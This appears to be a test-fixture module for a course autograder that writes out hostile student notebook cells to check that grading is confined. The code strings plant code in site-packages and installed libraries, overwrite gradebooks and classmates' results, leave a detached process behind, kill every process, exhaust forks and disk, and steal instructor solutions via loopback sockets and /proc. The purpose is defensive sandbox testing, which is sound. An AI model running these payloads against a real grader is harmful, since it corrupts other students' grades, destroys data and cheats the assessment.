@@ -1,0 +1,196 @@
+"""Hostile submissions: the student version edited the way a student who wants points could edit it.
+
+Each attack is code that a student may put in a notebook cell. Inserted as an exported cell
+it runs in both stages (nbgrader's kernel and the judge's student process); the attacks
+that need a process of their own in the kernel stage add one ungraded kernel cell.
+The attacks try the host's real paths, so they would succeed against an unconfined grader.
+"""
+from __future__ import annotations
+
+import site
+import sys
+from pathlib import Path
+
+import nbformat
+import numpy
+
+import tito
+from tito.course.grading import submissions as sub
+from tito.course.notebooks import is_export_cell
+
+MARKER = "31.4159"  # in the command line of every process an attack leaves behind
+PORT = 47615
+
+TRY = """\
+def _try(action, *args):
+    try:
+        return action(*args)
+    except BaseException:
+        return None
+"""
+
+
+def _export(code: str) -> str:
+    return "#| export\n" + code
+
+
+def plants_code(repo: Path, course_root: Path) -> str:
+    """Write into site-packages (a module and a .pth) and append to installed grading and course code."""
+    site_packages = Path(site.getsitepackages()[0])
+    targets = {
+        str(site_packages / "tito_hostile.py"): "STOLEN = True\n",
+        str(site_packages / "tito_hostile.pth"): "/nonexistent/tito-hostile\n",
+        str(Path(tito.__file__).parent / "course" / "grading" / "judge.py"): "\n# hostile\n",
+        str(Path(numpy.__file__)): "\n# hostile\n",
+        str(repo / "tinytorch" / "core" / "tensor.py"): "\n# hostile\n",
+        str(course_root / "tinytorch" / "core" / "tensor.py"): "\n# hostile\n",
+        str(Path(sys.prefix) / "bin" / "tito-hostile"): "#!/bin/sh\n",
+    }
+    return TRY + f"for _t, _x in {targets!r}.items():\n    _try(lambda: open(_t, 'a').write(_x))\n"
+
+
+def writes_course(course_root: Path, instructor_notebook: Path, classmate: str, tmpdir: Path) -> str:
+    """Overwrite the course's settings, gradebook, instructor notebook, a classmate's files, the temp folder."""
+    targets = [course_root / "settings.ini", course_root / "gradebook.db", instructor_notebook,
+               course_root / "submitted" / classmate / "06_optimizers" / "optimizers.ipynb",
+               course_root / "autograded" / classmate / "06_optimizers" / "grading.json"]
+    return TRY + f"""\
+import glob, os
+for _t in {[str(t) for t in targets]!r} + glob.glob({str(tmpdir)!r} + "/**", recursive=True):
+    _try(lambda: open(_t, "w").write("{{}}") if not os.path.isdir(_t) else None)
+_try(lambda: open({str(tmpdir / 'tito-hostile')!r}, "w").write("x"))
+_try(lambda: open("/tmp/tito-hostile", "w").write("x"))
+_try(lambda: os.makedirs({str(course_root / 'autograded' / classmate / '06_optimizers' / 'grading.json')!r}))
+"""
+
+
+def lingers(course_root: Path, classmate: str) -> str:
+    """Leave a double-forked, setsid process that overwrites a classmate's outcome 30 s later."""
+    target = course_root / "autograded" / classmate / "06_optimizers" / "grading.json"
+    return f"""\
+import os
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv("/bin/sh", ["sh", "-c", "sleep {MARKER}; echo '{{}}' > {target}"])
+    os._exit(0)
+"""
+
+
+def reads_proc_count() -> str:
+    """Print how many processes this stage can see (the test reads it from the feedback notebook)."""
+    return "import os\nprint('visible processes:', sum(p.isdigit() for p in os.listdir('/proc')))\n"
+
+
+def signals_everyone() -> str:
+    """SIGKILL every process id it may signal: the grader's, the other jobs', the kernel's own client."""
+    return "import os, signal\nfor _pid in range(2, 65536):\n    if _pid != os.getpid():\n" \
+           "        try:\n            os.kill(_pid, signal.SIGKILL)\n        except OSError:\n            pass\n"
+
+
+def counts_limits() -> str:
+    """Fork sleeping children until refused and fill /tmp until full; print both counts."""
+    return """\
+import os, time
+_children = []
+while len(_children) < 1000:  # a bound of its own, so that a broken jail fails the test, not the machine
+    try:
+        _pid = os.fork()
+    except OSError:
+        break
+    if _pid == 0:
+        time.sleep(120)
+        os._exit(0)
+    _children.append(_pid)
+for _pid in _children:
+    os.kill(_pid, 9)
+    os.waitpid(_pid, 0)
+print('forked:', len(_children))
+_mb = 0
+with open('/tmp/fill', 'wb') as _f:
+    try:
+        while _mb < 100_000:
+            _f.write(b'0' * (1 << 20))
+            _f.flush()
+            _mb += 1
+    except OSError:
+        pass
+os.remove('/tmp/fill')
+print('scratch MB:', _mb)
+"""
+
+
+# -- payloads: solution code fetched from somewhere it must not come from ---------------------
+
+def solution_text(instructor) -> str:
+    return "\n".join(c.source for c in instructor.cells
+                     if is_export_cell(c) and c.metadata.get("nbgrader", {}).get("solution"))
+
+
+def _with_payload(nb, fetch: str):
+    """`nb` with an exported cell after every solution cell that runs whatever `fetch` returns.
+
+    `_payload()` is defined by `fetch` in an exported cell after the imports; when it works,
+    every function is redefined with working code right after its stub.
+    """
+    nb = sub.insert_code_cell(nb, None, _export(TRY + fetch))
+    solution_ids = [c.metadata["nbgrader"]["grade_id"] for c in nb.cells
+                    if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code"]
+    for gid in solution_ids:
+        nb = sub.insert_code_cell(nb, gid, _export("_code = _try(_payload)\nif _code:\n    exec(_code, globals())\n"))
+    return nb
+
+
+def loopback(untouched, instructor):
+    """The kernel serves working code on a loopback port; the exported cells fetch it from there."""
+    serve = f"""\
+import os, socket
+if os.fork() == 0:
+    os.setsid()
+    _srv = socket.socket()
+    _srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    _srv.bind(("127.0.0.1", {PORT}))
+    _srv.listen()
+    while True:
+        _c, _ = _srv.accept()
+        _c.sendall({solution_text(instructor)!r}.encode())
+        _c.close()
+import time
+time.sleep(0.5)
+"""
+    fetch = f"""\
+import socket
+def _payload():
+    _c = socket.create_connection(("127.0.0.1", {PORT}), timeout=2)
+    return b"".join(iter(lambda: _c.recv(65536), b"")).decode()
+"""
+    return sub.insert_code_cell(_with_payload(untouched, fetch), None, serve)
+
+
+def reads_files(untouched, paths: list[Path]):
+    """The exported cells take working code from the first readable notebook among `paths`
+    (a classmate's submission, the instructor notebook, seen directly or through /proc/*/root)."""
+    fetch = f"""\
+import json, os
+def _payload():
+    _paths = {[str(p) for p in paths]!r}
+    _paths += ["/proc/" + _p + "/root" + _q for _p in os.listdir("/proc") if _p.isdigit() for _q in list(_paths)]
+    for _p in _paths:
+        _nb = _try(lambda: json.load(open(_p)))
+        if _nb:
+            return "\\n".join("".join(c["source"]) for c in _nb["cells"]
+                              if c["cell_type"] == "code" and "### BEGIN SOLUTION" in "".join(c["source"]))
+"""
+    return _with_payload(untouched, fetch)
+
+
+def with_attack(nb, attack: str, kernel_only: bool = False):
+    """`nb` with `attack` in a new cell after the imports (exported unless `kernel_only`)."""
+    return sub.insert_code_cell(nb, None, attack if kernel_only else _export(attack))
+
+
+def without_grade_cells(nb):
+    nb = nbformat.from_dict(nb)
+    nb.cells = [c for c in nb.cells if not (c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"
+                                            and not c.metadata["nbgrader"].get("solution"))]
+    return nb
